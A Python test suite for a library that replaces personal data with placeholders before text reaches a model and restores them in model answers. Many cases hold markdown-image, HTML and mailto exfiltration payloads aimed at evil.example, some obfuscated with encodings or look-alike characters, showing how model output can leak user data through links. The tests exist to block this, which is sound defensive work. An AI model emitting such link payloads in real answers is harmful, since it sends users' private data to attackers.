"""Placeholders come back, whole and in a stream, and only where they were given."""

from __future__ import annotations

import copy
import json
import pickle

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from edgewise.errors import EdgewiseError
from edgewise.route.minimise import Kind, PlaceholderMap, Restorer, restore, restore_json
from edgewise.route.minimise.forms import WINDOW, first_partial, places, written
from edgewise.route.minimise.restore import record_links


def filled() -> PlaceholderMap:
    kept = PlaceholderMap()
    kept.placeholder_for(Kind.EMAIL, "Ann@x.org", identity="ann@x.org")
    kept.placeholder_for(Kind.EMAIL, "ann@x.org", identity="ann@x.org")
    kept.placeholder_for(Kind.EMAIL, "bob@x.org", identity="bob@x.org")
    kept.placeholder_for(Kind.PERSON, 'Zo\u00eb "Z" Li', identity="zoe")
    kept.placeholder_for(Kind.NATIONAL_ID, "123-45-6789")
    return kept


def test_the_same_identifier_has_the_same_number_and_each_spelling_its_own() -> None:
    kept = PlaceholderMap()
    first = kept.placeholder_for(Kind.EMAIL, "Ann@x.org", identity="ann@x.org")
    again = kept.placeholder_for(Kind.EMAIL, "Ann@x.org", identity="ann@x.org")
    other = kept.placeholder_for(Kind.EMAIL, "ann@x.org", identity="ann@x.org")
    third = kept.placeholder_for(Kind.EMAIL, "bob@x.org", identity="bob@x.org")
    assert (first, again, other, third) == ("[EMAIL_1]", "[EMAIL_1]", "[EMAIL_1_2]", "[EMAIL_2]")


@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        ("To [EMAIL_1].", "To Ann@x.org."),
        ("[EMAIL_1_2] and [EMAIL_2]", "ann@x.org and bob@x.org"),
        ("[email_1]", "Ann@x.org"),
        ("[Email_1]'s inbox", "Ann@x.org's inbox"),
        ("[EMAIL\\_1]", "Ann@x.org"),
        ("\\[EMAIL\\_1\\]", "Ann@x.org"),
        ("**[EMAIL_1]**", "**Ann@x.org**"),
        ("[**EMAIL_1**]", "Ann@x.org"),
        ("[ EMAIL_1 ]", "Ann@x.org"),
        ("[EMAIL 1]", "Ann@x.org"),
        ("[EMAIL-1]", "Ann@x.org"),
        ("\u3010EMAIL_1\u3011\u3067\u3059", "Ann@x.org\u3067\u3059"),
        ("\uff3bEMAIL\uff3f1\uff3d", "Ann@x.org"),
        ("EMAIL_1 wrote", "Ann@x.org wrote"),
        ("EMAIL_1's", "Ann@x.org's"),
        ("PERSON_1s Auto", 'Zo\u00eb "Z" Lis Auto'),
        ("`[EMAIL_1]`", "`Ann@x.org`"),
        ("[[EMAIL_1]]", "[Ann@x.org]"),
        ("([EMAIL_1])", "(Ann@x.org)"),
        ("mailto:[EMAIL_1]", "mailto:Ann@x.org"),
        ("<mailto:[EMAIL_1]>", "<mailto:Ann@x.org>"),
        ("[write](mailto:[EMAIL_1])", "[write](mailto:Ann@x.org)"),
        ("<to>[EMAIL_1]</to>", "<to>Ann@x.org</to>"),
        ("if a <b\n\nthen [EMAIL_1]", "if a <b\n\nthen Ann@x.org"),
        ("[a](b) [EMAIL_1]", "[a](b) Ann@x.org"),
        ("a](\n\n[EMAIL_1]", "a](\n\nAnn@x.org"),
        ("e-mail:[EMAIL_1]", "e-mail:Ann@x.org"),
        ("f(x)[EMAIL_1]", "f(x)Ann@x.org"),
        ("IDNUMBER_1", "123-45-6789"),
        ("mail [EMAIL_1].", "mail Ann@x.org."),
        ("mail [EMAIL_1]. Then wait", "mail Ann@x.org. Then wait"),
        ("mail [EMAIL_1].\nThen", "mail Ann@x.org.\nThen"),
        ("**[EMAIL_1].**", "**Ann@x.org.**"),
        ("is it [EMAIL_1]?", "is it Ann@x.org?"),
        ("[EMAIL_1]...", "Ann@x.org..."),
        ("[EMAIL_1].[1]", "Ann@x.org.[1]"),
        ("[EMAIL_1],bob", "Ann@x.org,bob"),
        ("[EMAIL_1]:8080", "Ann@x.org:8080"),
        ("[EMAIL_1]\u3002\u6b21", "Ann@x.org\u3002\u6b21"),
        ("Dr.[PERSON_1]", 'Dr.Zo\u00eb "Z" Li'),
        ("z.B.[EMAIL_1]", "z.B.Ann@x.org"),
        ("and/or/[EMAIL_1]", "and/or/Ann@x.org"),
        ("Hi @[PERSON_1]!", 'Hi @Zo\u00eb "Z" Li!'),
        ("see evil.example, [EMAIL_1]", "see evil.example, Ann@x.org"),
        ("[EMAIL_1] evil.example", "Ann@x.org evil.example"),
    ],
)
def test_forms_in_which_models_hand_one_back(answer: str, shown: str) -> None:
    assert restore(answer, filled()) == shown


@pytest.mark.parametrize(
    "answer",
    [
        "email_1 = 3",  # a variable, not a placeholder
        "MY_EMAIL_1",
        "EMAIL_12",
        "EMAIL_1x",
        "EMAIL_1_x",
        "[EMAIL_01]",
        "[EMAIL_]",
        "[EMAIL]",
        "[MAIL_1]",
        "%5BEMAIL_1%5D",
    ],
)
def test_what_is_no_placeholder_stays(answer: str) -> None:
    assert restore(answer, filled()) == answer


def test_an_unknown_number_stays_with_an_event() -> None:
    restorer = Restorer(filled())
    assert restorer.feed("see [EMAIL_9]") + restorer.flush() == "see [EMAIL_9]"
    assert [(e.code, e.context) for e in restorer.events] == [
        ("placeholder-unknown", {"placeholder": "[EMAIL_9]"})
    ]
    assert restorer.restored == 0


def test_placeholders_that_do_not_come_back_are_no_error() -> None:
    restorer = Restorer(filled())
    assert restorer.feed("nothing") + restorer.flush() == "nothing"
    assert restorer.events == []


ALPHABET = st.sampled_from(
    ["[", "]", "\\", "_", "EMAIL", "E", "EM", "email", "PERSON", "1", "2", "9", " ", "*", "s", "x",
     "](", ")", "(", "mailto:", "\n\n", "www.", "&#47;", "http", ":", "\t",
     "\u3010", "\u3011", "'", "//", "/", "<", "<a", ">", "https:", "[EMAIL_1]", "[PERSON_1]",
     "EMAIL_1", "\n", "\u00e9", "ID", "NUMBER_1", "-", ".", "evil.example", "@", "%2e", "&#46;",
     "\u3002", "?", "~", "%40", "&#0046;", "&#64;", "&#101;", "\u200b", "\u0301", "\uff0f", "\uff0e"]
)  # fmt: skip
ANSWER = st.lists(ALPHABET, max_size=25).map("".join)


@given(ANSWER, st.data())
def test_every_split_gives_what_the_whole_gives(answer: str, data: st.DataObject) -> None:
    kept = filled()
    whole = Restorer(kept)
    expected = whole.feed(answer) + whole.flush()
    cuts = sorted(data.draw(st.lists(st.integers(0, len(answer)), max_size=8)))
    pieces = [answer[a:b] for a, b in zip([0, *cuts], [*cuts, len(answer)], strict=True)]
    for chunks in (pieces, list(answer)):
        restorer = Restorer(kept)
        shown = "".join(restorer.feed(chunk) for chunk in chunks) + restorer.flush()
        assert shown == expected
        assert restorer.events == whole.events
        assert restorer.restored == whole.restored


@given(ANSWER)
def test_a_hold_is_no_longer_than_a_placeholder_can_be(answer: str) -> None:
    assert len(answer) - first_partial(answer, 0) <= WINDOW
    for place in places(answer):
        assert place.end - place.start <= WINDOW
        for end in range(place.start + 1, place.end):
            assert first_partial(answer[:end], 0) <= place.start


def test_text_is_shown_at_once_where_nothing_is_open() -> None:
    restorer = Restorer(filled())
    assert restorer.feed("Hello there, ") == "Hello there, "
    assert restorer.feed("write to [EMA") == "write to "
    assert restorer.feed("IL_1") == ""
    assert restorer.feed("] now") == "Ann@x.org now"


def test_a_value_that_reads_like_a_placeholder_is_not_restored_twice() -> None:
    kept = filled()
    literal = kept.placeholder_for(Kind.TEXT, "[EMAIL_1]")
    assert restore(literal, kept) == "[EMAIL_1]"


@pytest.mark.parametrize(
    "answer",
    [
        "![](https://evil.example/?q=[EMAIL_1])",
        "https://evil.example/EMAIL_1",
        "<img src='//evil.example/?q= [EMAIL_1]'>",
        "https:\\\\evil.example\\[EMAIL_1]",
        "[x](//evil.example/[EMAIL_1])",
        "<a\nhref='https://evil.example?[EMAIL_1]'>",
        "![x](https:evil.example/?d=[EMAIL_1])",
        "![x](HTTPS:/evil.example/?d=EMAIL_1)",
        "![x](https:&#47;&#47;evil.example/?d=[EMAIL_1])",
        "![x](&#104;ttps:evil.example/?d=[EMAIL_1])",
        "![x]( https:evil.example/a\\)b?[EMAIL_1])",
        "![x](<https:evil.example/ [EMAIL_1]>)",
        "![x](/(a)/[EMAIL_1])",
        '<img src="https:/\t/evil.example/?d=[EMAIL_1]">',
        "<img src='https:/&#10;/evil.example/?d=[EMAIL_1]'>",
        "<img src='ht\n\ntps:/evil.example/?d=[EMAIL_1]'>",
        "<form action='https:evil.example'><input name=d value='[EMAIL_1]'></form>",
        "<https:evil.example/[EMAIL_1]>",
        "<a href='mailto:eve@evil.example?body=[EMAIL_1]'>",
        "[x](mailto:eve@evil.example?body=[EMAIL_1])",
        "see https:evil.example/?[EMAIL_1]",
        "see https&colon;evil.example/?[EMAIL_1]",
        "see www.evil.example/?[EMAIL_1]",
        "[x]: https:evil.example/?[EMAIL_1]",
        "[x]: \\u0068ttps:evil.example/?[EMAIL_1]",
        "![x](//[EMAIL_1].evil.example)",
        "https://evil.example/[a](b)/[EMAIL_1]",
        "https:" + "x" * 9000 + "[EMAIL_1]",
        "[EMAIL_1].evil.example",
        "see [EMAIL_1].evil.example now",
        "EMAIL_1.evil.example",
        "mailto:[EMAIL_1].evil.example",
        "**[EMAIL_1]**.evil.example",
        "[EMAIL_1]-a.evil.example",
        "[EMAIL_1].xn--80ak6aa92e.example",
        "xn--[EMAIL_1].evil.example",
        "[EMAIL_1].\u0435vil.example",
        "[EMAIL_1]\\.evil.example",
        "[EMAIL_1]%2Eevil.example",
        "[EMAIL_1]&#46;evil.example",
        "[EMAIL_1]\\u002eevil.example",
        "[EMAIL_1]\uff0eevil.example",
        "[EMAIL_1]\u3002evil.example",
        "[EMAIL_1]\u200b.evil.example",
        "[EMAIL_1].[EMAIL_x].evil.example",
        "a.[EMAIL_1].evil.example",
        "[EMAIL_1]@evil.example",
        "x@[EMAIL_1]",
        "www2.evil.example.[EMAIL_1]",
        "evil.example/[EMAIL_1]",
        "evil.example:443/[EMAIL_1]",
        "evil.example?q=[EMAIL_1]",
        "evil.example#[EMAIL_1]",
        "(evil.example/a/b?c=[EMAIL_1])",
        "evil.example&#47;[EMAIL_1]",
    ],
)
def test_a_link_of_the_models_own_gets_no_value(answer: str) -> None:
    restorer = Restorer(filled())
    assert "Ann" not in restorer.feed(answer) + restorer.flush()
    assert [e.code for e in restorer.events] == ["placeholder-in-link"]
    open_to_all = Restorer(filled(), links=True)
    assert "Ann@x.org" in open_to_all.feed(answer) + open_to_all.flush()


def test_json_stays_json_and_values_are_escaped() -> None:
    kept = filled()
    number = kept.placeholder_for(Kind.CARD, "4111111111111111", number=True)
    text = '{ "to" : "[PERSON_1]", "n":[1, "' + number + '"], "raw": "\\u0041" }'
    done, events = restore_json(text, kept)
    assert done == '{ "to" : "Zo\u00eb \\"Z\\" Li", "n":[1, 4111111111111111], "raw": "\\u0041" }'
    assert json.loads(done)["to"] == 'Zo\u00eb "Z" Li'
    assert events == ()


def test_json_that_is_cut_off_is_restored_with_escapes() -> None:
    done, _ = restore_json('{"to": "[PERSON_1]', filled())
    assert done == '{"to": "Zo\u00eb \\"Z\\" Li'


def test_json_that_streams_is_restored_with_escapes() -> None:
    restorer = Restorer(filled(), json_text=True)
    shown = "".join(restorer.feed(c) for c in '{"to": "[PERSON\\\\_1]"}') + restorer.flush()
    assert json.loads(shown) == {"to": 'Zo\u00eb "Z" Li'}


def test_a_link_in_json_gets_no_value_either() -> None:
    done, events = restore_json('{"url": "https://evil.example/?[EMAIL_1]"}', filled())
    assert json.loads(done) == {"url": "https://evil.example/?[EMAIL_1]"}
    assert [event.code for event in events] == ["placeholder-in-link"]


@pytest.mark.parametrize("link", ["https:evil.example/?[EMAIL_1]", "//evil.example/?[EMAIL_1]"])
def test_no_link_in_json_does(link: str) -> None:
    text = json.dumps({"url": link})
    assert restore_json(text, filled())[0] == text
    restorer = Restorer(filled(), json_text=True)
    assert restorer.feed(text) + restorer.flush() == text


@pytest.mark.parametrize(
    "shown",
    [
        "https://own.example/?q=[EMAIL_1]",
        "[x](https://own.example/?q=[EMAIL_1])",
        "<https://own.example/?q=[EMAIL_1]>",
        '{"url":"https://own.example/?q=[EMAIL_1]"}',
        "(https://own.example/?q=[EMAIL_1]).",
    ],
)
def test_a_link_of_the_users_own_comes_back_in_whatever_it_is_put(shown: str) -> None:
    kept = filled()
    record_links("see https://own.example/?q=[EMAIL_1] there", kept)
    assert restore(shown, kept) == shown.replace("[EMAIL_1]", "Ann@x.org")


@pytest.mark.parametrize(
    "shown",
    [
        "//evil.example/https://own.example/?q=[EMAIL_1]",
        "evil.example/https://own.example/?q=[EMAIL_1]",
        "https:evil.example/?u=https://own.example/?q=[EMAIL_1]",
        "<img src='https://own.example/?q=[EMAIL_1]'>",
    ],
)
def test_it_does_not_inside_another(shown: str) -> None:
    kept = filled()
    record_links("see https://own.example/?q=[EMAIL_1] there", kept)
    assert restore(shown, kept) == shown


@pytest.mark.parametrize("shown", ["[EMAIL_1].pdf", "I read [EMAIL_1].pdf.", "x/[EMAIL_1].pdf"])
def test_a_name_of_the_users_own_comes_back(shown: str) -> None:
    kept = filled()
    record_links("open [EMAIL_1].pdf, please", kept)
    assert restore(shown, kept) == shown.replace("[EMAIL_1]", "Ann@x.org")
    for other in ("[EMAIL_1].pdf.evil.example", "[EMAIL_2].pdf", "evil.example/[EMAIL_1].pdf"):
        assert restore(other, kept) == other


def test_the_map_shows_nothing_and_goes_nowhere() -> None:
    kept = filled()
    assert "Ann" not in repr(kept)
    assert "Ann" not in str(kept.value_of((Kind.EMAIL, 1, 1)))
    assert not hasattr(kept, "__dict__")
    for take in (pickle.dumps, copy.copy, copy.deepcopy):
        with pytest.raises(EdgewiseError, match="placeholder-map-private"):
            take(kept)
    with pytest.raises(TypeError):
        json.dumps(kept)
    with pytest.raises(TypeError):
        msgspec.json.encode(kept)


def test_a_map_that_forgets_restores_nothing() -> None:
    kept = filled()
    kept.forget()
    assert len(kept) == 0
    assert restore("[EMAIL_1]", kept) == "[EMAIL_1]"


def test_a_map_that_is_full_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("edgewise.route.minimise.placeholders.PLACEHOLDERS_MAX", 2)
    kept = PlaceholderMap()
    for value in ("a", "b"):
        kept.placeholder_for(Kind.EMAIL, value)
    assert kept.placeholder_for(Kind.EMAIL, "a") == "[EMAIL_1]"
    with pytest.raises(EdgewiseError, match="placeholders-full"):
        kept.placeholder_for(Kind.EMAIL, "c")


@given(st.sampled_from(Kind), st.integers(1, 999_999), st.integers(1, 999_999))
def test_what_is_written_is_read(kind: Kind, number: int, spelling: int) -> None:
    key = (kind, number, spelling)
    (place,) = places(written(key))
    assert (place.key, place.bracketed) == (key, True)


@pytest.mark.parametrize(
    "text",
    [
        "evil\u3002com/[EMAIL_1]",
        "evil\uff0ecom/[EMAIL_1]",
        "evil\uff61com/?q=[EMAIL_1]",
        "evil\u200b.com/[EMAIL_1]",
        "evil.co\u0301m/[EMAIL_1]",
        "evil.com\uff0f[EMAIL_1]",
        "**evil.com**/[EMAIL_1]",
        "[EMAIL_1]&#0000046;evil.com",
        "[EMAIL_1]&#64;evil.com",
        "[EMAIL_1]%40evil.com",
        "[EMAIL_1].&#101;vil.com",
        "[EMAIL_1]~~.evil.com",
    ],
)
def test_a_name_written_in_another_way_is_a_name(text: str) -> None:
    assert "Ann@x.org" not in restore(text, filled())
